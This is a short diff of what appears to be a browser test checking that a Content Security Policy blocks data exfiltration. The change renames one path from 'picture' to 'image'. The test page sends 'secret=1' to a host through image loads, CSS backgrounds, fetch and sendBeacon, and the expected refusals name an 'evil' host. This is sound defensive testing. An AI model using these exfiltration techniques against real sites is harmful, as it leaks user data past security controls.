@@ -12,7 +12,7 @@ const tries = (page: Page) =>
     document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
       blocked.add(`${effectiveDirective} ${blockedURI}`);
     });
-    new Image().src = `${host}/picture?secret=1`;
+    new Image().src = `${host}/image?secret=1`;
     document.body.style.backgroundImage = `url(${host}/style?secret=1)`;
     await fetch(`${host}/request?secret=1`).catch(() => undefined);
     navigator.sendBeacon(`${host}/beacon?secret=1`);
@@ -24,7 +24,7 @@ const tries = (page: Page) =>
 const refused = [
   `connect-src ${evil}/beacon`,
   `connect-src ${evil}/request`,
-  `img-src ${evil}/picture`,
+  `img-src ${evil}/image`,
   `img-src ${evil}/style`,
   'script-src-elem inline',
 ];
